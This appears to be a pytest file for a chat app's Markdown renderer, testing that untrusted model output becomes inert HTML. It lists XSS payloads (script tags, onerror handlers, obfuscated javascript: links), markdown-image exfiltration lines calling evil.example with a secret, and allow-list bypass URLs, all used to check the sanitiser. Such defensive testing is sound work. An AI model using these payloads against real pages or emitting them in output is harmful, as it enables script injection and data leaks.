@@ -1,0 +1,179 @@
+"""rendering.py: untrusted Markdown to sanitised HTML, and the template tags built on it."""
+
+from __future__ import annotations
+
+from datetime import timedelta
+from html.parser import HTMLParser
+
+import pytest
+from django.utils import timezone
+
+from chatstream.models import Generation
+from chatstream.rendering import render_markdown
+from chatstream.templatetags.chatstream import (
+    chatstream_ago,
+    chatstream_markdown,
+    generation_label,
+)
+
+# What a model may be tricked into writing (security.md §4, tests 6 and 7).
+HOSTILE = {
+    "script-tag": "<script>alert(1)</script>",
+    "img-onerror": '<img src=x onerror="alert(1)">',
+    "svg-onload": "<svg onload=alert(1)><circle r=5></circle></svg>",
+    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "markdown-js-link": "[click](javascript:alert(1))",
+    "markdown-js-link-mixed-case": "[click](JaVaScRiPt:alert(1))",
+    "markdown-js-link-entity-tab": "[click](java&#x09;script:alert(1))",
+    "markdown-js-autolink": "<javascript:alert(1)>",
+    "markdown-data-link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "markdown-vbscript-link": "[click](vbscript:msgbox(1))",
+    "reference-js-link": "[click][x]\n\n[x]: javascript:alert(1)",
+    "link-title-breakout": '[a](https://example.org "x\\" onmouseover=\\"alert(1)")',
+    "code-info-breakout": '```" onmouseover="alert(1)\nx\n```',
+    "html-block": "<div onclick=alert(1)>hi</div>",
+    "style-tag": "<style>body{display:none}</style>",
+    "form-tag": '<form action="https://evil.example"><button>go</button></form>',
+    "object-tag": '<object data="https://evil.example/x.swf"></object>',
+    "entity-encoded-script": "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "image-exfiltration": "![loading](https://evil.example/collect?q=SECRET)",
+    "image-data-url": "![x](data:image/png;base64,iVBORw0KGgo=)",
+    "reference-image-exfiltration": "![x][i]\n\n[i]: https://evil.example/collect?q=SECRET",
+    "html-comment": "<!-- <script>alert(1)</script> -->",
+}
+
+
+class _Audit(HTMLParser):
+    """Parses rendered HTML as a browser would and lists what could run or load."""
+
+    FORBIDDEN = {"script", "iframe", "svg", "object", "embed", "style", "form", "div", "img",
+                 "input", "button", "link", "meta", "base", "math"}
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.problems: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in self.FORBIDDEN:
+            self.problems.append(f"<{tag}>")
+        for name, value in attrs:
+            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
+                self.problems.append(f"{tag}[{name}]")
+            if name in ("href", "src") and value is not None:
+                scheme = value.strip().split(":", 1)[0].lower() if ":" in value else ""
+                if scheme not in ("", "http", "https", "mailto"):
+                    self.problems.append(f"{tag}[{name}={value}]")
+
+
+def _danger(html: str) -> list[str]:
+    audit = _Audit()
+    audit.feed(html)
+    audit.close()
+    return audit.problems
+
+
+@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
+def test_hostile_markdown_renders_without_markup_that_can_run_or_load(source):
+    assert _danger(render_markdown(source)) == []
+
+
+def test_raw_html_is_shown_as_text_not_dropped():
+    html = render_markdown("Use <b>bold</b> and <script>x()</script>")
+    assert "&lt;b&gt;bold&lt;/b&gt;" in html
+    assert "&lt;script&gt;x()&lt;/script&gt;" in html
+
+
+def test_common_markdown_renders_code_lists_tables_and_links():
+    html = render_markdown(
+        "Steps:\n\n1. one\n2. two\n\n- a\n- b\n\n```python\nprint('hi')\n```\n\n"
+        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n[docs](https://example.org/x?a=1&b=2) ~~old~~ `x`"
+    )
+    assert "<ol>" in html and "<li>one</li>" in html and "<ul>" in html
+    assert '<pre><code class="language-python">print(\'hi\')\n</code></pre>' in html.replace(
+        "&#x27;", "'").replace("&#39;", "'")
+    assert '<th style="text-align:left">a</th>' in html
+    assert '<td style="text-align:right">2</td>' in html
+    assert '<a href="https://example.org/x?a=1&amp;b=2"' in html
+    assert 'rel="nofollow noopener noreferrer"' in html and 'target="_blank"' in html
+    assert "<s>old</s>" in html and "<code>x</code>" in html
+
+
+def test_links_must_be_absolute_http_https_or_mailto():
+    assert "href" not in render_markdown("[a](/chat/c/1/delete/)")
+    assert "href" not in render_markdown("[a](//evil.example/x)")
+    assert 'href="mailto:a@example.org"' in render_markdown("[a](mailto:a@example.org)")
+
+
+def test_headings_are_moved_below_the_page_headings():
+    html = render_markdown("# One\n\n## Two\n\n###### Six")
+    assert "<h3>One</h3>" in html and "<h4>Two</h4>" in html and "<h6>Six</h6>" in html
+    assert "<h1" not in html and "<h2" not in html
+
+
+def test_remote_image_becomes_its_alt_text_by_default():
+    html = render_markdown("![a chart](https://cdn.example/chart.png)")
+    assert "<img" not in html
+    assert '<span class="cs-image-alt">a chart</span>' in html
+
+
+def test_image_from_an_allowed_host_loads_without_a_referrer(settings):
+    settings.CHATSTREAM_ALLOWED_IMAGE_HOSTS = ["CDN.example"]
+    html = render_markdown("![a chart](https://cdn.example/chart.png)")
+    assert '<img src="https://cdn.example/chart.png" alt="a chart"' in html
+    assert 'referrerpolicy="no-referrer"' in html
+
+
+@pytest.mark.parametrize("src", [
+    "https://evil.example/x.png",
+    "https://cdn.example@evil.example/x.png",
+    "https://evil.example@cdn.example/x.png",
+    "http://cdn.example.evil.example/x.png",
+    "//cdn.example/x.png",
+    "data:image/png;base64,iVBORw0KGgo=",
+], ids=["other-host", "userinfo-allowed", "userinfo-evil", "suffix", "scheme-relative", "data"])
+def test_image_outside_the_allow_list_never_loads(settings, src):
+    settings.CHATSTREAM_ALLOWED_IMAGE_HOSTS = ["cdn.example"]
+    assert "<img" not in render_markdown(f"![x]({src})")
+
+
+def test_code_language_class_is_kept_only_when_plain():
+    assert 'class="language-c++"' in render_markdown("```c++\nint x;\n```")
+    assert "class=" not in render_markdown('```a"b\nx\n```')
+
+
+def test_markdown_filter_accepts_none():
+    assert chatstream_markdown(None) == ""
+
+
+@pytest.mark.parametrize(("status", "error_type", "http_status", "content", "expected"), [
+    ("cancelled", "stopped_by_user", None, "partial", "Stopped by you."),
+    ("cancelled", "client_disconnected", None, "partial", "the page was closed"),
+    ("interrupted", "connection_lost", 200, "partial", "What arrived so far is kept"),
+    ("failed", "http", 500, "", "The AI provider had a problem answering"),
+    ("failed", "http", 429, "", "busy right now"),
+    ("completed", "", 200, "done", ""),
+], ids=["stopped", "page-closed", "interrupted", "failed-500", "failed-429", "completed"])
+def test_generation_label_is_one_plain_sentence(status, error_type, http_status, content, expected):
+    generation = Generation(status=status, error_type=error_type, http_status=http_status,
+                            content=content)
+    label = generation_label(generation)
+    assert expected in label
+    assert "<" not in label and "Error" not in label
+
+
+@pytest.mark.parametrize("html", [
+    '<img src="x" onerror="alert(1)">', '<a href="javascript:alert(1)">x</a>',
+    '<a href=" JavaScript:alert(1)">x</a>', "<svg></svg>", '<p style="x">y</p>',
+], ids=["img", "js-href", "js-href-spaced", "svg", "style"])
+def test_the_audit_used_above_does_catch_live_markup(html):
+    assert _danger(html)
+
+
+@pytest.mark.parametrize(("ago", "expected"), [
+    (timedelta(seconds=5), "just now"),
+    (timedelta(minutes=5, seconds=3), "5\xa0minutes ago"),
+    (timedelta(days=1, hours=2), "1\xa0day ago"),
+    (timedelta(days=40), "1\xa0month ago"),
+], ids=["seconds", "minutes", "day-and-hours", "weeks"])
+def test_last_activity_reads_in_one_unit(ago, expected):
+    assert chatstream_ago(timezone.now() - ago) == expected
